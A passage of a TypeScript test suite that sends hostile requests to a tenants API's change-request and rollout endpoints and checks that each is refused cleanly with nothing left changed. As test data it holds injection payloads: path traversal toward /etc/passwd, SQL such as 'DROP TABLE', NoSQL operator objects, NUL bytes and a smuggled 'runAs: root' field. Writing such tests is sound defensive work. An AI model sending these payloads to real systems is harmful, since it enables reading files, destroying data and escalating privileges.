      body: { comment: 'ok' },
      status: 400,
      message: 'Invalid change request id: Change request id must be a UUID',
    }),
  ),
  {
    name: 'preview of a change request with a path as its id',
    method: 'get',
    path: `/v1/change-requests/${TRAVERSAL}/preview`,
    status: 400,
    message: 'Invalid change request id: Change request id must be a UUID',
  },
  {
    name: 'approve an unknown change request',
    method: 'post',
    path: `/v1/change-requests/${UNKNOWN_ID}/approve`,
    body: {},
    status: 404,
    message: `No change request with id '${UNKNOWN_ID}'`,
  },
  {
    name: 'approve with a numeric comment',
    method: 'post',
    path: '/v1/change-requests/{changeRequest}/approve',
    body: { comment: 5 },
    status: 400,
    message: 'comment: Invalid input: expected string, received number',
  },
  {
    name: 'approve with an oversize comment',
    method: 'post',
    path: '/v1/change-requests/{changeRequest}/approve',
    body: { comment: 'c'.repeat(2001) },
    status: 400,
    message: 'Comment must be at most 2000 characters',
  },
  {
    name: 'approve with a NUL byte in the comment',
    method: 'post',
    path: '/v1/change-requests/{changeRequest}/approve',
    body: { comment: `ok${NUL}` },
    status: 400,
    message: 'comment: Comment must not contain NUL characters',
  },
  {
    name: 'approve straight to applied',
    method: 'post',
    path: '/v1/change-requests/{changeRequest}/approve',
    body: { comment: 'ok', status: 'applied' },
    status: 400,
    message: "status: Unknown field 'status'",
  },
  {
    name: 'reject without a comment',
    method: 'post',
    path: '/v1/change-requests/{changeRequest}/reject',
    body: {},
    status: 400,
    message: 'A comment is required to reject a change request',
  },
  {
    name: 'reject with a comment array',
    method: 'post',
    path: '/v1/change-requests/{changeRequest}/reject',
    body: { comment: ['no'] },
    status: 400,
    message: 'A comment is required to reject a change request',
  },
  {
    name: 'reject with a NUL byte in the comment',
    method: 'post',
    path: '/v1/change-requests/{changeRequest}/reject',
    body: { comment: `no${NUL}` },
    status: 400,
    message: 'comment: Comment must not contain NUL characters',
  },
  {
    name: 'change request event with an unknown type',
    method: 'post',
    path: '/v1/change-requests/{changeRequest}/events',
    body: { type: 'hacked' },
    asService: true,
    status: 400,
    message: 'Event type must be one of started, log, applied, failed',
  },
  {
    name: 'change request event with a task id that walks up the scaffolder API',
    method: 'post',
    path: '/v1/change-requests/{changeRequest}/events',
    body: { type: 'started', taskId: '..' },
    asService: true,
    status: 400,
    message: "taskId: Task id must be letters, digits, '.', '_' and '-'",
  },
  {
    name: 'revert with a numeric comment',
    method: 'post',
    path: '/v1/change-requests/{changeRequest}/revert',
    body: { comment: 5 },
    status: 400,
    message: 'comment: Invalid input: expected string, received number',
  },
  {
    name: 'revert of a request that did not fail',
    method: 'post',
    path: '/v1/change-requests/{changeRequest}/revert',
    body: {},
    status: 409,
    message: 'only a failed change can be reverted',
  },
  {
    name: 'change request: a platform version config does not declare',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: { changes: { platformVersion: '9.9.9' }, reason: 'newer' },
    status: 400,
    message:
      "changes.platformVersion: Platform version '9.9.9' is not declared in config",
  },
  {
    name: 'change preview: a platform version that walks up a path',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests/preview',
    body: { changes: { platformVersion: '../../etc/passwd' } },
    status: 400,
    message: 'platformVersion may contain letters',
  },
  {
    name: 'change request: a platform version that is an operator object',
    method: 'post',
    path: '/v1/tenants/{tenant}/change-requests',
    body: { changes: { platformVersion: { $ne: null } }, reason: 'any' },
    status: 400,
    message: 'platformVersion must be text',
  },
  // Rollouts.
  {
    name: 'rollout: a wave size below one',
    method: 'post',
    path: '/v1/rollouts',
    body: { waveSize: -1 },
    status: 400,
    message: 'waveSize must be at least 1',
  },
  {
    name: 'rollout: a pause that is SQL',
    method: 'post',
    path: '/v1/rollouts',
    body: { pauseSeconds: '1; DROP TABLE rollouts' },
    status: 400,
    message: 'pauseSeconds must be a number',
  },
  {
    name: 'rollout: tenant ids that are not ids',
    method: 'post',
    path: '/v1/rollouts',
    body: { tenantIds: [TRAVERSAL] },
    status: 400,
    message: 'Each tenant id must be a UUID',
  },
  {
    name: 'rollout: the same tenant twice',
    method: 'post',
    path: '/v1/rollouts',
    body: { tenantIds: [UNKNOWN_ID, UNKNOWN_ID] },
    status: 400,
    message: 'tenantIds must not name a tenant twice',
  },
  {
    name: 'rollout: an unknown tenant',
    method: 'post',
    path: '/v1/rollouts',
    body: { tenantIds: [UNKNOWN_ID] },
    status: 400,
    message: `tenantIds[0]: No tenant with id '${UNKNOWN_ID}'`,
  },
  {
    name: 'rollout: a version config does not declare',
    method: 'post',
    path: '/v1/rollouts',
    body: { targetVersion: '2.0.0' },
    status: 400,
    message:
      "targetVersion: Platform version '2.0.0' is not declared in config",
  },
  {
    name: 'rollout: a NUL byte in the reason',
    method: 'post',
    path: '/v1/rollouts',
    body: { reason: `go${NUL}` },
    status: 400,
    message: 'Reason must not contain NUL characters',
  },
  {
    name: 'rollout: an unknown field',
    method: 'post',
    path: '/v1/rollouts',
    body: { waveSize: 2, runAs: 'root' },
    status: 400,
    message: "Unknown field 'runAs'",
  },
  {
    name: 'rollout list with an unknown state',
    method: 'get',
    path: "/v1/rollouts?state=running'--",
    status: 400,
    message: 'state must be one of running, paused',
  },
  {
    name: 'rollout list with a huge page',
    method: 'get',
    path: '/v1/rollouts?limit=100000',
    status: 400,
    message: 'limit must be at most 100',
  },
  {
    name: 'rollout read with a path as its id',
    method: 'get',
    path: `/v1/rollouts/${TRAVERSAL}`,
    status: 400,
    message: 'Invalid rollout id: Rollout id must be a UUID',
  },
  {
    name: 'pause an unknown rollout',
    method: 'post',
    path: `/v1/rollouts/${UNKNOWN_ID}/pause`,
    body: {},
    status: 404,
    message: `No rollout with id '${UNKNOWN_ID}'`,
  },
  {
    name: 'resume a rollout with a NUL id',
    method: 'post',
    path: '/v1/rollouts/%00/resume',
    body: {},
    status: 400,
    message: 'Rollout id must be a UUID',
  },
  {
    name: 'retry a rollout tenant with a path as its id',
    method: 'post',
    path: `/v1/rollouts/${UNKNOWN_ID}/tenants/${TRAVERSAL}/retry`,
    body: {},
    status: 400,
    message: 'Invalid tenant id',
  },
  {
    name: 'change request list with SQL in the status',
    method: 'get',
    path: "/v1/change-requests?status=pending'--",
    status: 400,
    message: 'status must be one of pending',
  },
];

describe.each(ids)('hostile input on %s', databaseId => {
  const clusters = ClusterRegistry.fromConfig(new ConfigReader(config));
  /**
   * Namespaces of the tenants these requests name (other suites provision
   * their own tenants on the shared cluster at the same time).
   */
  const ownNamespaces = async () => {
    const slugs = new Set<string>([
      'ready',
      'underway',
      'probe',
      ...cases.map(row => (row.body as any)?.spec?.details?.slug),
    ]);
    return (await tenantNamespaceNames(clusters, 'local')).filter(name =>
      slugs.has(name.replace(/^tenant-/, '')),
    );
  };
  let knex: Knex;
  let server: any;
  let fixtures: Record<'tenant' | 'provisioning' | 'changeRequest', string>;
  let countsBefore: Record<string, number>;
  let auditBefore: Set<string>;
  let namespacesBefore: string[];

  beforeAll(async () => {
    knex = await databases.init(databaseId);
    const backend = await startTestBackend({
      features: [
        tenantsPlugin,
        mockServices.database.factory({ knex }),
        mockServices.rootConfig.factory({ data: config }),
      ],
    });
    server = backend.server;

    const tenant = await registerTenant(server, ADMIN, {
      spec: specInputFor('ready'),
      cluster: 'local',
    });
    await reportPhases(server, tenant);
    const filed = await request(server)
      .post(`/api/tenants/v1/tenants/${tenant}/change-requests`)
      .set(asUser(REQUESTER))
      .send({ changes: { resourceTier: 'large' }, reason: 'More users' });
    if (filed.status !== 201) {
      throw new Error(`Could not file a change request: ${filed.text}`);
    }
    const provisioning = await registerTenant(server, ADMIN, {
      spec: specInputFor('underway'),
      cluster: 'local',
    });
    await reportPhases(server, provisioning, [['namespace', 'started']]);
    fixtures = { tenant, provisioning, changeRequest: filed.body.id };

    countsBefore = await rowCounts(knex);
    auditBefore = new Set(await knex('tenant_audit_events').pluck('id'));
    namespacesBefore = await ownNamespaces();
  });

  const send = (row: HostileRequest) => {
    const path = row.path.replace(
      /\{(tenant|provisioning|changeRequest)\}/g,
      (_, name: keyof typeof fixtures) => fixtures[name],
    );
    const req = request(server)
      [row.method](`/api/tenants${path}`)
      .set(row.asService ? asService : asUser(ADMIN))
      .timeout(15_000); // a hang fails the row instead of the suite
    if (row.raw) {
      return req.set('Content-Type', row.raw.type).send(row.raw.data);
    }
    return row.body === undefined ? req : req.send(row.body as object);
  };

  it('accepts the probe spec the rows spoil (a dry run on the cluster)', async () => {
    const response = await request(server)
      .post('/api/tenants/v1/tenants/dry-run')
      .set(asUser(ADMIN))
      .send({ spec: probeSpec() });
    expect(response.status).toBe(200);
    expect(response.body.cluster).toBe('local');
  });

  it.each(cases.map(row => [row.name, row] as const))(
    'refuses %s',
    async (_name, row) => {
      const response = await send(row);
      const error = response.body?.error;
      expect({ status: response.status, message: error?.message }).toEqual({
        status: row.status,
        message: expect.stringContaining(row.message),
      });
      expect(error.stack).toBeUndefined();
      expect(error.message).not.toMatch(/\n\s+at /);
    },
  );

  it('leaves nothing new behind but audited failures', async () => {
    const added = (await knex('tenant_audit_events').select()).filter(
      event => !auditBefore.has(event.id),
    );
    expect(added.filter(event => event.outcome !== 'failure')).toEqual([]);
    expect(await rowCounts(knex)).toEqual({
      ...countsBefore,
      tenant_audit_events: countsBefore.tenant_audit_events + added.length,
    });
    expect(
      await knex('tenants').select('slug', 'state').orderBy('slug'),
    ).toEqual([
      { slug: 'ready', state: 'ready' },
      { slug: 'underway', state: 'provisioning' },
    ]);
    expect(await knex('tenant_change_requests').pluck('status')).toEqual([
      'pending',
    ]);
    expect(await ownNamespaces()).toEqual(namespacesBefore);
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(({} as Record<string, unknown>).status).toBeUndefined();
  });
});
